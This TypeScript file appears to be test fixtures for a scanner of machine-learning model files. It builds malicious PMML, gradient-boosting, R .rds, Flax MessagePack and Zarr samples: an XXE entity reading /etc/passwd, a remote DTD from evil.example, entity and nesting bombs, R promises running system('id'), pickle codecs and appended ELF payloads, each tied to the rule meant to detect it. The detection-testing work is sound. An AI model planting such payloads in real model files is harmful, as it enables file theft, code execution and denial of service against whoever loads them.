import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { elf } from '../helpers/executable-writer.js';
import { rds, type RObject } from '../helpers/r-writer.js';
import { zarrFile } from '../helpers/zarr-writer.js';
import { attack, cutOff, packed, renamed, reported, type Attack, type Row } from './attack.js';
import { RUNS, evil, shell } from './payloads.js';

const external = '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const laughs = '<!DOCTYPE PMML [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>';
const pmml = (before: string): string => `<?xml version="1.0"?>${before}<PMML version="4.4"/>`;
const fetches = attack('model.pmml', pmml(external), 'model/xml-external-entity');
const pmmlRow: Row = {
  format: 'PMML',
  cells: {
    indirect: [
      attack(
        'model.pmml',
        pmml('<!DOCTYPE PMML [<!ENTITY % x PUBLIC "a" "https://evil.example/x.dtd"> %x;]>'),
        'model/xml-external-entity',
      ),
      attack('model.pmml', Buffer.from(`\ufeff${pmml(external)}`, 'utf16le'), 'model/xml-external-entity'),
    ],
    reach: fetches,
    disguised: [renamed(fetches, 'model.xml'), attack('model.pmml', elf(), 'model/disguised')],
    cut: cutOff(fetches, 10),
    packed: packed(fetches),
    bomb: attack('model.pmml', pmml(laughs), 'model/xml-entity'),
  },
};

const boosting = (name: string): Buffer =>
  readFileSync(new URL(`../fixtures/boosting/${name}`, import.meta.url));
const behind = (name: string): Attack =>
  attack(name, Buffer.concat([boosting(name), elf()]), 'model/hidden-payload', 'model/trailing-data');
const boostingRow: Row = {
  format: 'XGBoost, LightGBM, CatBoost',
  cells: {
    lie: attack(
      'catboost.cbm',
      Buffer.concat([Buffer.from('CBM1\xff\xff\xff\x7f', 'latin1'), boosting('catboost.cbm').subarray(8)]),
      'model/corrupt',
    ),
    hidden: [behind('xgboost.ubj'), behind('catboost.cbm')],
    disguised: [
      ...['model.ubj', 'model.xgb', 'model.cbm', 'model.lgb'].map((path) => attack(path, evil, RUNS)),
      attack('lightgbm.txt', elf(), 'model/disguised'),
    ],
    cut: attack('xgboost.ubj', boosting('xgboost.ubj').subarray(0, -10), 'model/corrupt'),
    packed: packed(behind('xgboost.ubj')),
  },
};

const system: RObject = { call: [{ symbol: 'system' }, 'id'] };
const PROMISE = 'model/r-promise-command';
const promise = attack('model.rds', rds({ list: [{ promise: system }] }), PROMISE, 'model/r-promise');
let nested: RObject = null;
for (let depth = 0; depth < 2000; depth++) nested = { list: [nested] };
const rRow: Row = {
  format: 'R .rds, .rda',
  cells: {
    code: [
      promise,
      attack('model.rda', rds({ pairs: [['fit', { promise: system }]] }, 'X', 3, 'RDX3\n'), PROMISE),
    ],
    indirect: [
      attack('model.rds', rds({ variables: { pairs: [['x', { promise: system }]] } }), PROMISE),
      attack('model.rds', rds({ list: [{ promise: system }] }, 'A'), PROMISE),
    ],
    reach: attack('model.rds', rds({ altrep: 'mmap_integer', state: '/etc/passwd' }), 'model/r-mapped-file'),
    foreign: reported('model.rds', rds({ function: { call: [{ symbol: '{' }, system] } }), 'model/r-command'),
    lie: attack('model.rds', rds({ raw: [14, 0x7fffffff] }), 'model/corrupt'),
    hidden: attack(
      'model.rds',
      Buffer.concat([rds({ numbers: 2 }), elf()]),
      'model/hidden-payload',
      'model/trailing-data',
    ),
    disguised: [
      renamed(promise, 'weights.bin'),
      renamed(attack('model.rds', gzipSync(promise.bytes), PROMISE), 'data.csv'),
    ],
    cut: cutOff(
      attack('model.rds', rds({ list: [{ promise: system }, 'more'] }), PROMISE, 'model/corrupt'),
      2,
    ),
    packed: [attack('model.rds', gzipSync(promise.bytes), PROMISE), packed(promise)],
    bomb: attack('model.rds', rds(nested), 'model/corrupt'),
  },
};

const bytes = (...parts: readonly (number | string | Uint8Array)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'number' ? Buffer.of(part) : Buffer.from(part))));
const text = (value: string): Buffer => bytes(0xa0 + value.length, value);
const extension = (code: number, content: Uint8Array): Buffer => bytes(0xc7, content.length, code, content);
const array = (dtype: string, length: number, data: Uint8Array): Buffer =>
  extension(1, bytes(0x93, 0x91, length, text(dtype), 0xc4, data.length, data));
const map = (...entries: readonly (readonly [string, Uint8Array])[]): Buffer =>
  bytes(0x80 + entries.length, ...entries.flatMap(([key, value]) => [text(key), value]));
const raw = (data: Uint8Array): Buffer => bytes(0xc4, data.length, data);
const params = (...entries: readonly (readonly [string, Uint8Array])[]): Buffer =>
  map(['params', map(...entries)]);
let lists: Buffer = bytes(0xc0);
for (let depth = 0; depth < 600; depth++) lists = bytes(0x91, lists);
const carried = attack('model.msgpack', params(['a', raw(evil)]), RUNS, 'model/hidden-payload');
const flaxRow: Row = {
  format: 'Flax, JAX MessagePack',
  cells: {
    code: [
      carried,
      attack('model.msgpack', params(['a', array('object', 1, bytes(0))]), 'model/object-array'),
    ],
    indirect: attack(
      'model.msgpack',
      map(['nd', bytes(0xc3)], ['kind', text('O')], ['data', raw(evil)]),
      RUNS,
    ),
    foreign: reported('model.msgpack', params(['a', extension(42, bytes(1))]), 'model/unknown-extension'),
    lie: [
      attack('model.msgpack', params(['a', array('int8', 9, bytes(1))]), 'model/tensor-layout'),
      attack('model.msgpack', params(['a', bytes(1)], ['a', bytes(2)]), 'model/duplicate-key'),
    ],
    hidden: [
      attack(
        'model.msgpack',
        params(['a', array('int8', shell.length, Buffer.from(shell))]),
        'model/hidden-payload',
      ),
      attack(
        'model.msgpack',
        bytes(params(['a', bytes(1)]), elf()),
        'model/hidden-payload',
        'model/trailing-data',
      ),
    ],
    disguised: [
      renamed(carried, 'checkpoint'),
      attack(
        'weights.bin',
        map(['nd', bytes(0xc3)], ['type', text('|O')], ['data', raw(evil)]),
        RUNS,
        'model/hidden-payload',
      ),
      attack('model.msgpack', evil, 'model/disguised', RUNS),
    ],
    cut: cutOff(
      attack('model.msgpack', params(['a', raw(evil)], ['b', raw(elf())]), RUNS, 'model/hidden-payload'),
      3,
    ),
    packed: packed(carried),
    bomb: attack('model.msgpack', map(['params', lists]), 'model/corrupt'),
  },
};

const zarr = zarrFile({ name: 'pickle' });
const pickles = attack(zarr.path, zarr.content, 'model/zarr-pickle');
const three = (codecs: unknown): string =>
  JSON.stringify({ zarr_format: 3, node_type: 'array', data_type: 'float32', shape: [2], codecs });
const zarrRow: Row = {
  format: 'Orbax, Zarr',
  cells: {
    code: pickles,
    indirect: [
      attack(
        'zarr.json',
        three([{ name: 'sharding_indexed', configuration: { codecs: [{ name: 'numcodecs.pickle' }] } }]),
        'model/zarr-pickle',
      ),
      attack(
        '.zmetadata',
        JSON.stringify({ metadata: { 'a/.zarray': { filters: [{ id: 'pickle' }] } } }),
        'model/zarr-pickle',
      ),
    ],
    hidden: attack('checkpoint/weights/0.0', evil, RUNS),
    cut: { ...cutOff(pickles), rules: ['model/corrupt'] },
    packed: packed(pickles),
  },
};

export const dataRows: readonly Row[] = [pmmlRow, boostingRow, rRow, flaxRow, zarrRow];
